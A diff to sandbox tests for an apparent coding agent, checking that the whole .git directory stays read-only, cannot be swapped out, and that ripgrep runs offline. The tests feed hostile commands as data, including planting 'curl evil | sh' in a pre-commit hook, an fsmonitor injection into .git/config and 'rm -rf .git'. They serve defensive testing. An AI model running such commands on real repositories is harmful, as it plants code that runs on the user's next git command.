@@ -97,15 +97,20 @@ async def test_allowed_roots_are_writable_too(tmp_path: Path, outside: Path) -> 
     assert (outside / "ok.txt").read_text() == "shared\n"
 
 
-async def test_git_hooks_and_config_stay_read_only(tmp_path: Path) -> None:
+async def test_the_whole_git_directory_is_read_only(tmp_path: Path) -> None:
+    # issue 29: as in Codex, all of .git (not only hooks and config), so nothing in it can be
+    # planted for the user's next git command; commits are the user's, outside the sandbox
     (tmp_path / ".git" / "hooks").mkdir(parents=True)
     (tmp_path / ".git" / "config").write_text("[core]\n")
+    (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
     text = await run(context(tmp_path), "echo 'curl evil | sh' > .git/hooks/pre-commit; "
-                     "echo '[core] fsmonitor = evil' >> .git/config; echo ref > .git/HEAD")
-    assert text.count("Read-only file system") == 2
+                     "echo '[core] fsmonitor = evil' >> .git/config; echo ref > .git/HEAD; "
+                     "mkdir .git/info")
+    assert text.count("Read-only file system") == 4
     assert not (tmp_path / ".git" / "hooks" / "pre-commit").exists()
     assert (tmp_path / ".git" / "config").read_text() == "[core]\n"
-    assert (tmp_path / ".git" / "HEAD").read_text() == "ref\n"  # commits still work
+    assert (tmp_path / ".git" / "HEAD").read_text() == "ref: refs/heads/main\n"
+    assert not (tmp_path / ".git" / "info").exists()
 
 
 async def test_git_directory_cannot_be_swapped_for_a_planted_one(tmp_path: Path) -> None:
@@ -114,13 +119,12 @@ async def test_git_directory_cannot_be_swapped_for_a_planted_one(tmp_path: Path)
     (tmp_path / ".git" / "hooks").mkdir(parents=True)
     (tmp_path / ".git" / "config").write_text("[core]\n")
     text = await run(context(tmp_path), "mv .git .git-old; rm -rf .git; "
-                     "mkdir -p .git/modules/x; echo evil > .git/modules/x/config; "
-                     "echo object > .git/objects-ok; echo done")
+                     "mkdir -p .git/modules/x; echo evil > .git/modules/x/config; echo done")
     assert text.count("Device or resource busy") >= 1
     assert not (tmp_path / ".git-old").exists()
     assert (tmp_path / ".git" / "config").read_text() == "[core]\n"
     assert (tmp_path / ".git" / "hooks").is_dir()
-    assert (tmp_path / ".git" / "objects-ok").read_text() == "object\n"  # still writable
+    assert not (tmp_path / ".git" / "modules").exists()
 
 
 async def test_submodule_configs_and_a_git_pointer_file_stay_read_only(tmp_path: Path) -> None:
@@ -281,9 +285,9 @@ async def test_grep_runs_ripgrep_in_a_read_only_offline_sandbox(tmp_path: Path) 
     grep = make_grep("ripgrep")
     text = await grep.invoke(grep.validate({"pattern": "needle"}), ctx)
     assert text == "a.txt:1:needle"
-    [line] = [line for line in log.read_text().splitlines() if " rg " in line]
-    assert f"--ro-bind-try {workspace} {workspace}" in line and "--unshare-net" in line
-    assert "--bind-try" not in line
+    logged = log.read_text()  # the probe (network on: no --unshare-net), then ripgrep's line
+    assert " rg " in logged and f"--ro-bind-try {workspace} {workspace}" in logged
+    assert "--unshare-net" in logged and "--bind-try" not in logged
 
 
 # --- through the Agent and the CLI ---------------------------------------------------------------
